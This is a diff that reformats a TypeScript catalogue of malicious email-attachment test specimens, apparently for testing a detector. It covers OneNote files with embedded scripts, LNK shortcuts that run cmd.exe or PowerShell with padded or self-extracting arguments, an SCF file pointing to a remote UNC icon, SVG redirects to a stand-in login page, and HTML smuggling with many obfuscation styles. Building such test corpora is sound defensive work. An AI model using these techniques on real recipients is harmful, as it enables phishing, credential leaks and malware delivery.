@@ -1,7 +1,22 @@
 import { gzipSync } from 'node:zlib'
 import {
-  deviceLogPage, encodedOnlyPage, exe, htmlFile, iso, lnk, oneNote, pdf, png, portalPage, redirectingPage, script,
-  signInPage, smugglingPage, svgLogo, svgWithScript, textFile,
+  deviceLogPage,
+  encodedOnlyPage,
+  exe,
+  htmlFile,
+  iso,
+  lnk,
+  oneNote,
+  pdf,
+  png,
+  portalPage,
+  redirectingPage,
+  script,
+  signInPage,
+  smugglingPage,
+  svgLogo,
+  svgWithScript,
+  textFile,
 } from '../files/index.ts'
 import { docWithMacro } from '../office/index.ts'
 import { built, type SpecimenFile } from '../specimen-file.ts'
@@ -34,7 +49,14 @@ export const activeFileEntries: readonly CatalogueEntry[] = [
     id: 'A24',
     title: { ja: 'OneNote', en: 'OneNote' },
     bad: [
-      attached('click.wsf below a picture', () => oneNote({ name: 'Scan_247.one', embedded: script('wsf', 'click.wsf'), pictures: [png()], text: 'This document is protected. Double click the View button' })),
+      attached('click.wsf below a picture', () =>
+        oneNote({
+          name: 'Scan_247.one',
+          embedded: script('wsf', 'click.wsf'),
+          pictures: [png()],
+          text: 'This document is protected. Double click the View button',
+        }),
+      ),
       attached('hta without lists', () => oneNote({ files: [script('hta', 'a.hta')], loose: true })),
       attached('script called a picture', () => oneNote({ embedded: script('vbs', 'view.png') })),
       attached('shortcut in the notebook', () => oneNote({ name: 'doc_0322.one', files: [png(), lnk({ name: 'open.lnk' })] })),
@@ -52,14 +74,26 @@ export const activeFileEntries: readonly CatalogueEntry[] = [
     title: { ja: 'ショートカット（LNK）', en: 'Shortcuts (LNK)' },
     bad: [
       attached('reads itself', () =>
-        lnk({ name: 'INV 2022-04-25_1114, USA.doc.lnk', target: 'C:\\Windows\\System32\\cmd.exe', arguments: '/v:on /c findstr "rem.*" "form.lnk" > %TMP%\\x.vbs', appended: Buffer.from("' inert\r\n") }),
+        lnk({
+          name: 'INV 2022-04-25_1114, USA.doc.lnk',
+          target: 'C:\\Windows\\System32\\cmd.exe',
+          arguments: '/v:on /c findstr "rem.*" "form.lnk" > %TMP%\\x.vbs',
+          appended: Buffer.from("' inert\r\n"),
+        }),
       ),
       attached('blanks before the command', () =>
-        lnk({ target: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', arguments: `${' '.repeat(240)}-c calc.exe` }),
+        lnk({
+          target: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
+          arguments: `${' '.repeat(240)}-c calc.exe`,
+        }),
       ),
       attached('under another name', () => renamed(lnk(), '案内.pdf')),
       behindPassword('behind a password', () => lnk({ name: '請求書.pdf.lnk' })),
-      attached('name seen in a closed zip', () => zip('a.zip').encrypted('never-told').with(lnk({ name: '明細.lnk' }))),
+      attached('name seen in a closed zip', () =>
+        zip('a.zip')
+          .encrypted('never-told')
+          .with(lnk({ name: '明細.lnk' })),
+      ),
       nested('two zips deep', () => lnk({ environmentTarget: '%ComSpec%', ansi: true })),
     ],
     lookAlike: [attached('word about shortcuts', () => textFile('手順.txt', 'デスクトップのショートカット（.lnk）を開きます。'))],
@@ -93,10 +127,23 @@ export const activeFileEntries: readonly CatalogueEntry[] = [
       ),
       attached('job called a text', () => script('wsf', '案内.txt')),
       attached('UTF-16', () => utf16(script('wsf', 'レポート.wsf'))),
-      attached('script of comments behind a megabyte', () => latin1File('a.js', `${'//// comment\r\n'.repeat(40_000)}var a = 1\r\n`)),
-      attached('jar', () => ({ ...zip('更新.jar').with({ name: 'META-INF/MANIFEST.MF', bytes: Buffer.from('Manifest-Version: 1.0\r\nMain-Class: A\r\n') }).build() })),
-      attached('management console', () => latin1File('設定.msc', '<?xml version="1.0"?><MMC_ConsoleFile ConsoleVersion="3.0"></MMC_ConsoleFile>')),
-      attached('settings', () => latin1File('a.settingcontent-ms', '<PCSettings><SearchableContent><ApplicationInformation><DeepLink>calc.exe</DeepLink></ApplicationInformation></SearchableContent></PCSettings>')),
+      attached('script of comments behind a megabyte', () =>
+        latin1File('a.js', `${'//// comment\r\n'.repeat(40_000)}var a = 1\r\n`),
+      ),
+      attached('jar', () => ({
+        ...zip('更新.jar')
+          .with({ name: 'META-INF/MANIFEST.MF', bytes: Buffer.from('Manifest-Version: 1.0\r\nMain-Class: A\r\n') })
+          .build(),
+      })),
+      attached('management console', () =>
+        latin1File('設定.msc', '<?xml version="1.0"?><MMC_ConsoleFile ConsoleVersion="3.0"></MMC_ConsoleFile>'),
+      ),
+      attached('settings', () =>
+        latin1File(
+          'a.settingcontent-ms',
+          '<PCSettings><SearchableContent><ApplicationInformation><DeepLink>calc.exe</DeepLink></ApplicationInformation></SearchableContent></PCSettings>',
+        ),
+      ),
       attached('shell command', () => latin1File('a.scf', '[Shell]\r\nCommand=2\r\nIconFile=\\\\192.0.2.9\\a.ico\r\n')),
       behindPassword('behind a password', () => script('jse')),
       forwarded('forwarded', () => script('ps1')),
@@ -110,8 +157,25 @@ export const activeFileEntries: readonly CatalogueEntry[] = [
     id: 'A28',
     title: { ja: 'HTML スマグリング', en: 'HTML smuggling' },
     bad: [
-      ...(['atob', 'chunks', 'reversed', 'hex', 'character-codes', 'percent', 'xor-byte', 'xor-key', 'hidden-element', 'data-address', 'nested', 'appended'] as const).map(
-        (style) => attached(`${style}, zip`, () => renamed(smugglingPage(zip('attachment.zip').with(docWithMacro()).build(), style), 'REF#5689_Sep_28.html')),
+      ...(
+        [
+          'atob',
+          'chunks',
+          'reversed',
+          'hex',
+          'character-codes',
+          'percent',
+          'xor-byte',
+          'xor-key',
+          'hidden-element',
+          'data-address',
+          'nested',
+          'appended',
+        ] as const
+      ).map((style) =>
+        attached(`${style}, zip`, () =>
+          renamed(smugglingPage(zip('attachment.zip').with(docWithMacro()).build(), style), 'REF#5689_Sep_28.html'),
+        ),
       ),
       attached('encrypted zip in a page', () => smugglingPage(zip('a.zip').encrypted('abc333').with(iso()).build())),
       attached('disk image in a page', () => smugglingPage(iso(), 'chunks')),
@@ -133,12 +197,23 @@ export const activeFileEntries: readonly CatalogueEntry[] = [
     title: { ja: 'スクリプト入りの SVG', en: 'SVG with script' },
     bad: [
       attached('script', () => svgWithScript()),
-      attached('event', () => latin1File('図.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="window.location=\'https://login.example.net/a\'"><rect width="1" height="1"/></svg>', 'image/svg+xml')),
+      attached('event', () =>
+        latin1File(
+          '図.svg',
+          '<svg xmlns="http://www.w3.org/2000/svg" onload="window.location=\'https://login.example.net/a\'"><rect width="1" height="1"/></svg>',
+          'image/svg+xml',
+        ),
+      ),
       attached('compressed', () => ({ name: '図.svgz', bytes: gzipSync(built(svgWithScript()).bytes), type: 'image/svg+xml' })),
-      attached('page inside', () => latin1File('図.svg', `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="data:text/html;base64,${Buffer.from('<script>location="https://login.example.net"</script>').toString('base64')}"/></foreignObject></svg>`, 'image/svg+xml')),
+      attached('page inside', () =>
+        latin1File(
+          '図.svg',
+          `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="data:text/html;base64,${Buffer.from('<script>location="https://login.example.net"</script>').toString('base64')}"/></foreignObject></svg>`,
+          'image/svg+xml',
+        ),
+      ),
       attached('called a picture', () => renamed(svgWithScript(), '図.png')),
     ],
     lookAlike: [attached('logo', () => svgLogo())],
   },
 ]
-
